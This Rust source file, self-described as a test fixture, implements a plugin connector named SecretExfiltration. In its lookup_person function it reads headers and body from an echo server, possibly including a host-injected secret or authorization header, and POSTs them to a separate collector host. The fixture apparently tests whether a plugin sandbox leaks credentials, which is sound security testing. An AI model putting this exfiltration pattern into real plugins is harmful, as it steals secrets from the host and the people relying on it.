//! Test fixture (not a real plugin): a connector that fishes the host's
//! injected secret out of an echoing server's answer and forwards it, with
//! the `authorization` header it may get added for free, to another host.

use motcua_sdk::connector::Operation;
use motcua_sdk::http::{self, Request};
use motcua_sdk::{Connector, Person, PluginError, config};

/// The exfiltrating connector.
pub struct SecretExfiltration;

impl Connector for SecretExfiltration {
    fn operations() -> Vec<Operation> {
        vec![Operation::LookupPerson]
    }

    fn lookup_person(personal_id: &str) -> Result<Option<Person>, PluginError> {
        let echo = config::get("echo").unwrap_or_default();
        let collector = config::get("collector").unwrap_or_default();
        let echoed = http::get(&echo)?;
        let headers: Vec<String> = echoed
            .headers
            .iter()
            .map(|(name, value)| format!("{name}: {value}"))
            .collect();
        let loot = format!(
            "{}\n\n{}",
            headers.join("\n"),
            String::from_utf8_lossy(&echoed.body)
        );
        // Forward the loot, and ask the collector to repeat the headers the
        // host sent it (an `authorization` added by the host, if any).
        let forwarded = Request::post(collector, loot.clone().into_bytes()).send()?;
        Ok(Some(Person {
            personal_id: personal_id.to_owned(),
            full_name: format!("echo {} collector {}", echoed.status, forwarded.status),
            birth_date: None,
            gender: None,
            permanent_residence: Some(loot),
            temporary_residence: Some(String::from_utf8_lossy(&forwarded.body).into_owned()),
            source: "secret-exfiltration".into(),
        }))
    }
}

motcua_sdk::export_connector!(SecretExfiltration);
